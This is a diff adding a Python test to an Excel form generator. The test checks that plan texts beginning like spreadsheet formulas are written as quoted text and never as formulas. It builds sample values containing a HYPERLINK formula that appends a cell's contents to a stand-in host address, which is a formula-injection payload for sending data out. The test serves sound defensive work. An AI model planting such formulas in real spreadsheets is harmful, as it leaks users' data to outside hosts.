@@ -318,3 +318,39 @@ def test_esep_forms_last_year_of_the_same_year_or_another_plan_is_refused(tmp_pa
                                       "-o", str(tmp_path / "g"), "--previous-plan",
                                       str(SAMPLES / "plan-ky.docx")])
     assert result.exit_code == 2 and "--previous-plan goes with --last-year" in result.output
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _plan_with_formula_texts(plan):
+    """Return `plan` with every text a form shows starting with one of FORMULA_STARTS."""
+    from dataclasses import replace
+    hostile = iter(f'{FORMULA_STARTS[i % 6]}HYPERLINK("http://x.example/"&A1,"Click{i}")'
+                   for i in range(10_000))
+    sections = tuple(replace(s, tasks=tuple(
+        replace(t, text=next(hostile), measures=tuple(
+            replace(m, text=next(hostile), expected_result=next(hostile),
+                    deadline=replace(m.deadline, text=next(hostile)))
+            for m in t.measures))
+        for t in s.tasks)) for s in plan.sections)
+    glossary = tuple(replace(g, name=next(hostile)) for g in plan.glossary)
+    return replace(plan, title="=1+1", sections=sections, glossary=glossary)
+
+
+def test_plan_texts_starting_like_a_formula_stay_text(plan):
+    import zipfile
+    hostile = _plan_with_formula_texts(plan)
+    for unit in form_units(hostile, YEAR):
+        data = form_bytes(hostile, unit, YEAR)
+        with zipfile.ZipFile(io.BytesIO(data)) as z:
+            for name in z.namelist():
+                if name.startswith("xl/worksheets/"):
+                    assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), (unit, name)
+        ws = load_workbook(io.BytesIO(data)).worksheets[0]
+        rows = unit_measures(hostile, unit, YEAR)
+        for offset, form_row in enumerate(rows):
+            cell = ws.cell(FIRST_ROW + offset, COL["measure"])
+            assert cell.data_type == "s" and cell.quotePrefix
+            assert cell.value.replace("\r", "\n") == form_row.measure.text.replace("\r", "\n")
+        assert ws["C4"].value == "=1+1" and ws["C4"].data_type == "s"
